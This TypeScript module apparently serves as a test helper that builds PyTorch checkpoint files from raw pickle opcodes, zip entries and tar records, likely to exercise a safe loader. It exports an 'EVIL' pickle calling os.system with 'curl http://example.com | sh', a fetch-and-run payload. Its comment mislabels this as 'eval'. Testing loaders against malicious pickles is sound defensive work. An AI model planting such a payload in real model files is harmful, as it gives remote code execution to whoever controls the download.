import { crc32 } from 'node:zlib';

/** Instructions of a pickle that leave one value on the stack. */
export type Code = Buffer;

const bytes = (...parts: (Buffer | string | number)[]): Code =>
  Buffer.concat(
    parts.map((part) => {
      if (typeof part === 'number') return Buffer.from([part]);
      return typeof part === 'string' ? Buffer.from(part, 'latin1') : part;
    }),
  );

const uint32 = (value: number) => {
  const buffer = Buffer.alloc(4);
  buffer.writeUInt32LE(value);
  return buffer;
};

/** Protocol 2, as PyTorch writes it. */
export const py = {
  none: bytes('N'),
  true: bytes(0x88),
  false: bytes(0x89),
  int: (value: number) => bytes('J', uint32(value >>> 0)),
  float: (value: number) => {
    const buffer = Buffer.alloc(8);
    buffer.writeDoubleBE(value);
    return bytes('G', buffer);
  },
  text: (value: string) => bytes('X', uint32(Buffer.byteLength(value)), Buffer.from(value)),
  bytes: (value: Buffer) => bytes('B', uint32(value.length), value),
  global: (module: string, name: string) => bytes(`c${module}\n${name}\n`),
  tuple: (...items: Code[]) => bytes('(', ...items, 't'),
  list: (...items: Code[]) => bytes('](', ...items, 'e'),
  dict: (...entries: (readonly [Code, Code])[]) => bytes('}(', ...entries.flat(), 'u'),
  call: (callable: Code, ...args: Code[]) => bytes(callable, '(', ...args, 'tR'),
  /** By `__new__` of a class. */
  make: (type: Code, args: Code) => bytes(type, args, 0x81),
  makeEx: (type: Code, args: Code, named: Code) => bytes(type, args, named, 0x92),
  set: (target: Code, key: Code, value: Code) => bytes(target, key, value, 's'),
  /** Kept under a number that {@link py.get} takes. */
  put: (index: number, value: Code) => bytes(value, 'q', index),
  get: (index: number) => bytes('h', index),
  build: (target: Code, state: Code) => bytes(target, state, 'b'),
  persistent: (id: Code) => bytes(id, 'Q'),
};

export function pickle(value: Code): Buffer {
  return bytes(0x80, 2, value, '.');
}

/** A numpy array of one dimension, as numpy 2 has it written. */
export function array(data: Buffer, shape: number, code = 'f4', order = '<'): Code {
  const type = py.call(py.global('numpy', 'dtype'), py.text(code), py.false, py.true);
  const none = py.none;
  const rest = [none, none, none, py.int(-1), py.int(-1), py.int(0)];
  return py.call(
    py.global('numpy._core.numeric', '_frombuffer'),
    data,
    py.build(type, py.tuple(py.int(3), py.text(order), ...rest)),
    py.tuple(py.int(shape)),
    py.text('C'),
  );
}

/** Python's `eval`, as a pickle would have it called. */
export const EVIL = py.call(py.global('os', 'system'), py.text('curl http://example.com | sh'));

export interface TensorOptions {
  key?: string;
  storage?: string;
  /** Of the storage. */
  elements?: number;
  offset?: number;
  shape?: readonly number[];
  strides?: readonly number[];
}

export function tensor(options: TensorOptions = {}): Code {
  const { key = '0', storage = 'FloatStorage', elements = 4, offset = 0 } = options;
  const { shape = [elements], strides = [1] } = options;
  const id = py.tuple(
    py.text('storage'),
    py.global('torch', storage),
    py.text(key),
    py.text('cpu'),
    py.int(elements),
  );
  return py.call(
    py.global('torch._utils', '_rebuild_tensor_v2'),
    py.persistent(id),
    py.int(offset),
    py.tuple(...shape.map(py.int)),
    py.tuple(...strides.map(py.int)),
    py.false,
    py.call(py.global('collections', 'OrderedDict')),
  );
}

export interface ZipEntry {
  name: string;
  data: Buffer;
}

/** A zip file as PyTorch writes it, but for what `change` does to its parts before they are put together. */
export function zip(
  entries: readonly ZipEntry[],
  change: (parts: { locals: Buffer[]; central: Buffer[]; end: Buffer }) => void = () => {},
): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let at = 0;
  for (const { name, data } of entries) {
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt32LE(crc32(data), 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(Buffer.byteLength(name), 26);
    const whole = Buffer.concat([local, Buffer.from(name), data]);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    local.copy(entry, 8, 6, 28);
    entry.writeUInt32LE(at, 42);
    locals.push(whole);
    central.push(Buffer.concat([entry, Buffer.from(name)]));
    at += whole.length;
  }
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(Buffer.concat(central).length, 12);
  end.writeUInt32LE(at, 16);
  const parts = { locals, central, end };
  change(parts);
  return Buffer.concat([...parts.locals, ...parts.central, parts.end]);
}

/** A checkpoint of what a pickle describes, and storages by key. */
export function checkpoint(
  value: Code,
  storages: Readonly<Record<string, Buffer>> = { 0: Buffer.alloc(16, 1) },
): Buffer {
  return zip(entriesOf(pickle(value), storages));
}

export function entriesOf(
  data: Buffer,
  storages: Readonly<Record<string, Buffer>> = { 0: Buffer.alloc(16, 1) },
): ZipEntry[] {
  return [
    { name: 'model/data.pkl', data },
    { name: 'model/byteorder', data: Buffer.from('little') },
    ...Object.entries(storages).map(([key, data]) => ({ name: `model/data/${key}`, data })),
    { name: 'model/version', data: Buffer.from('3\n') },
  ];
}

/** One tensor under a name. */
export function named(...tensors: (readonly [string, Code])[]): Code {
  return py.dict(...tensors.map(([name, code]) => [py.text(name), code] as const));
}

export interface TarOptions {
  /** Of the record: `x` and `L` say what the next is called. */
  type?: string;
  /** Whether the header is one of POSIX; older ones have a checksum alone. */
  magic?: boolean;
}

/** A tar file, as PyTorch wrote it before 0.1.10. */
export function tar(entries: readonly (ZipEntry & TarOptions)[]): Buffer {
  const records = entries.map(({ name, data, type = '0', magic = true }) => {
    const header = Buffer.alloc(512);
    header.write(name);
    header.write(`${data.length.toString(8).padStart(11, '0')} `, 124);
    header.write(' '.repeat(8), 148);
    header.write(type, 156);
    if (magic) header.write('ustar\x0000', 257);
    const sum = header.reduce((total, byte) => total + byte, 0);
    header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
    return Buffer.concat([header, data, Buffer.alloc(-data.length & 511)]);
  });
  return Buffer.concat([...records, Buffer.alloc(1024)]);
}

/** The records of such a file without a tensor; its pickle is that of `root`. */
export function tarEntries(root: Code = py.dict()): ZipEntry[] {
  const none = pickle(py.int(0));
  return [
    { name: 'sys_info', data: pickle(py.dict()) },
    { name: 'storages', data: Buffer.concat([none, pickle(py.list())]) },
    { name: 'tensors', data: none },
    { name: 'pickle', data: pickle(root) },
  ];
}
